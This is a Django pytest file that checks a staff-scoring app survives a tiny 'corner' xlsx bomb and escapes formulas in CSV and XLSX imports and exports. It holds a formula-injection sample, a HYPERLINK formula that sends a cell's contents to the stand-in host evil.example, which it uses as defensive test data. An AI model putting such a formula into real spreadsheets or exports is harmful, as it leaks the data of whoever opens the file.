"""Bad files never hurt the server: the 1.6 KB "corner" .xlsx through the real import pages, and
formulas in every exported file. The pages run in a child process with a memory limit, so that a
reader which does allocate the rectangle (as before the check) kills the child, not the test run."""

import csv
import io
import json
import os
import resource
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse

from members.models import Worker
from reviews.imports import check_file
from tests.hostile_files import corner_bomb

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
LEAK = '=HYPERLINK("http://evil.example/?"&D2,"点此核对")'
CHILD_MEMORY = 2 * 1024**3

# Runs in the child: sign in as the clerk and as staff, upload the file to the portal's entry import
# and to the admin's worker import, and print what each page answered.
CHILD = """
import json, sys
import django
django.setup()
from django.test.utils import setup_test_environment
setup_test_environment()
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

args = json.loads(sys.argv[1])
content = open(args["file"], "rb").read()
users = get_user_model().objects
answers = {}
clerk = Client()
clerk.force_login(users.get(pk=args["clerk"]))
page = clerk.post(reverse("entries:import"), {"file": SimpleUploadedFile("entries.xlsx", content)})
answers["portal"] = [page.status_code, page.content.decode()]
staff = Client()
staff.force_login(users.get(pk=args["staff"]))
page = staff.post(reverse("admin:members_worker_import"),
                  {"import_file": SimpleUploadedFile("workers.xlsx", content), "format": "0", "resource": "0"})
answers["admin"] = [page.status_code, page.content.decode()]
print(json.dumps(answers))
"""


def database_url() -> str:
    s = connection.settings_dict
    return f"postgres://{s['USER']}:{s['PASSWORD']}@{s['HOST'] or 'localhost'}:{s['PORT'] or 5432}/{s['NAME']}"


def limit_memory():
    resource.setrlimit(resource.RLIMIT_AS, (CHILD_MEMORY, CHILD_MEMORY))


@pytest.mark.django_db(transaction=True)
def test_the_corner_xlsx_gets_a_chinese_answer_from_both_import_pages_and_the_server_lives(w, tmp_path):
    # given: the 1.6 KB file (cells at A1 and XFD1048576), and a clerk and a superuser
    path = tmp_path / "corner.xlsx"
    path.write_bytes(corner_bomb())
    staff = type(w.staff).objects.create_superuser(username="root", password="pass-1234-word")
    # when: both pages read it, in a process that may use 2 GB (the readers would ask for 512 GB)
    env = {**os.environ, "DATABASE_URL": database_url(), "DJANGO_SETTINGS_MODULE": "config.settings.test"}
    child = subprocess.run(
        [sys.executable, "-c", CHILD, json.dumps({"file": str(path), "clerk": w.clerk.pk, "staff": staff.pk})],
        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300, preexec_fn=limit_memory,  # noqa: S603
    )
    # then: the process finished on its own, and each page says why in Chinese
    assert child.returncode == 0, f"the server process died ({child.returncode}): {child.stderr[-2000:]}"
    answers = json.loads(child.stdout.strip().splitlines()[-1])
    for page in ("portal", "admin"):
        status, html = answers[page]
        assert status == 200, page
        assert "表格范围过大（XFD1048576）" in html, page
    assert not Worker.objects.filter(employee_no="工号").exists()


# -- formulas in what the portal and the admin hand out ------------------------------------------

def test_the_clerks_bad_rows_file_keeps_formulas_as_text(client, w, today):
    out = io.StringIO()
    csv.writer(out).writerows([["工号", "姓名", "工作日期", "计分指标", "工作量", "说明"],
                               [w.alice.employee_no, LEAK, today.isoformat(), "安全走行公里", "-5", "@SUM(1+1)"]])
    upload = io.BytesIO(out.getvalue().encode("utf-8-sig"))
    upload.name = "entries.csv"
    client.force_login(w.clerk)
    preview = client.post(reverse("entries:import"), {"file": upload})
    token = preview.context["preview"]["token"]
    bad_rows = client.get(reverse("entries:import_bad_rows", args=[token]))
    rows = list(csv.reader(io.StringIO(bad_rows.content.decode("utf-8-sig"))))
    assert rows[0][:6] == ["工号", "姓名", "工作日期", "计分指标", "工作量", "说明"]  # the file's own columns
    assert rows[1][1] == "'" + LEAK  # 姓名
    assert rows[1][4] == "-5"  # a negative number stays a number
    assert rows[1][5] == "'@SUM(1+1)"
    # fixed and imported again, the file gives back the cells as the clerk wrote them
    parsed, _good = check_file(actor=w.clerk, competition=w.comp, name="bad-rows.csv", content=bad_rows.content)
    assert parsed.cells(2)[1] == LEAK and parsed.cells(2)[5] == "@SUM(1+1)"


def _export(client, fmt: str) -> bytes:
    from members.resources import WorkerResource

    data = {"format": fmt, "resource": "0", **{f"workerresource_{n}": "on" for n in WorkerResource().get_export_order()}}
    response = client.post(reverse("admin:members_worker_export"), data)
    assert response.status_code == 200
    return response.content


def test_admin_exports_keep_a_formula_name_as_text_in_csv_and_xlsx(admin_client, f, w):
    Worker.objects.filter(pk=w.alice.pk).update(name=LEAK)
    rows = list(csv.reader(io.StringIO(_export(admin_client, "1").decode("utf-8-sig"))))
    names = [row[rows[0].index("姓名")] for row in rows[1:]]
    assert "'" + LEAK in names and LEAK not in names

    content = _export(admin_client, "0")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("姓名")] for row in sheet.iter_rows(min_row=2)]
    leak = next(c for c in cells if c.value == LEAK)
    assert leak.data_type == "s"


def test_the_entry_template_lists_a_formula_like_metric_as_text(client, f, w):
    f.rule(w.comp, w.driver, metric="=1+1", unit_of_measure="次", points_per_unit="1")
    client.force_login(w.clerk)
    content = client.get(reverse("entries:template", args=["xlsx"])).content
    metrics = openpyxl.load_workbook(io.BytesIO(content))["计分指标"]
    cell = next(row[2] for row in metrics.iter_rows(min_row=2) if row[2].value == "=1+1")
    assert cell.data_type == "s"


def test_an_admin_csv_export_sent_back_imports_the_names_as_they_were(admin_client, f, w):
    Worker.objects.filter(pk=w.alice.pk).update(name=LEAK)
    exported = _export(admin_client, "1")
    upload = io.BytesIO(exported)
    upload.name = "workers.csv"
    preview = admin_client.post(reverse("admin:members_worker_import"),
                                {"import_file": upload, "format": "1", "resource": "0"})
    assert preview.status_code == 200 and preview.context["confirm_form"] is not None, preview.context.get(
        "import_problems")
    form = preview.context["confirm_form"]
    done = admin_client.post(reverse("admin:members_worker_process_import"),
                             {name: form.initial[name] for name in form.fields if name in form.initial})
    assert done.status_code == 302
    assert Worker.objects.get(pk=w.alice.pk).name == LEAK
